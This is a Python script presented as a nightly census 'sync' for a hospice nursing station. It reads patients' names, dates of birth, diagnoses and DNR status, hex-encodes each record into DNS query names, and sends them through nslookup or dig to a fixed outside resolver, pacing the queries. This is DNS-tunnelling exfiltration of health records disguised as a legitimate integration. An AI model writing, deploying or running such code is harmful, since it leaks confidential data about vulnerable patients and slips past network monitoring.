#!/usr/bin/env python3
"""Nightly census "sync" for the hospice nursing station.

Reads the current patient census export (room, name, date of birth,
diagnosis, DNR status) and pushes it to the regional bed board. The bed board
is only reachable through the station's DNS resolver, so each record is
encoded into query names and resolved by a small shell loop.
"""

import argparse
import csv
import logging
import os
import subprocess
import sys
import textwrap

LOG = logging.getLogger("census-sync")

ZONE = "c.bedboard.example.net"
LABEL_LEN = 60

RESOLVE_LOOP = textwrap.dedent(r"""
    set -u
    n=0
    while IFS= read -r qname; do
        [ -z "$qname" ] && continue
        nslookup -timeout=2 "$qname" "${SYNC_RESOLVER}" >/dev/null 2>&1 || \
            dig +short +time=2 "$qname" @"${SYNC_RESOLVER}" >/dev/null 2>&1
        n=$((n + 1))
        sleep "${SYNC_PACE}"
    done <<< "${SYNC_QUERIES}"
    echo "$n"
""")


class CensusRecord:
    FIELDS = ("room", "name", "dob", "diagnosis", "dnr")

    def __init__(self, row):
        self.values = [row.get(f, "").strip() for f in self.FIELDS]

    def encode(self):
        return "|".join(self.values).encode("utf-8").hex()


class QueryBuilder:
    def __init__(self, zone, batch_id):
        self.zone = zone
        self.batch_id = batch_id

    def names_for(self, seq, record):
        blob = record.encode()
        chunks = [blob[i:i + LABEL_LEN] for i in range(0, len(blob), LABEL_LEN)]
        names = []
        for part, chunk in enumerate(chunks):
            names.append(f"{chunk}.{part}-{len(chunks)}.{seq}.{self.batch_id}.{self.zone}")
        return names


def read_census(path):
    records = []
    try:
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                records.append(CensusRecord(row))
    except FileNotFoundError:
        LOG.error("census export %s not found", path)
        raise
    LOG.info("read %d census rows", len(records))
    return records


def push(queries, resolver, pace):
    env = dict(os.environ,
               SYNC_QUERIES="\n".join(queries),
               SYNC_RESOLVER=resolver,
               SYNC_PACE=str(pace))
    res = subprocess.run(["bash", "-c", RESOLVE_LOOP], env=env,
                         capture_output=True, text=True)
    if res.returncode != 0:
        LOG.error("resolver loop failed: %s", res.stderr.strip())
        return 0
    try:
        return int(res.stdout.strip() or 0)
    except ValueError:
        return 0


def parse_args():
    p = argparse.ArgumentParser(description="Census sync via resolver")
    p.add_argument("census", nargs="?", default="census_export.csv")
    p.add_argument("--resolver", default=os.environ.get("SYNC_RESOLVER", "203.0.113.53"))
    p.add_argument("--zone", default=ZONE)
    p.add_argument("--batch", default=None, help="batch id (default: pid)")
    p.add_argument("--pace", type=float, default=0.2)
    p.add_argument("--limit", type=int, default=0, help="only first N rows")
    return p.parse_args()


def main():
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    args = parse_args()
    try:
        records = read_census(args.census)
    except FileNotFoundError:
        return 2
    if args.limit:
        records = records[:args.limit]
    builder = QueryBuilder(args.zone, args.batch or str(os.getpid()))
    queries = []
    for seq, rec in enumerate(records):
        queries.extend(builder.names_for(seq, rec))
    LOG.info("prepared %d queries for %d patients", len(queries), len(records))
    sent = push(queries, args.resolver, args.pace)
    LOG.info("resolved %d/%d names", sent, len(queries))
    return 0 if sent == len(queries) else 1


if __name__ == "__main__":
    sys.exit(main())
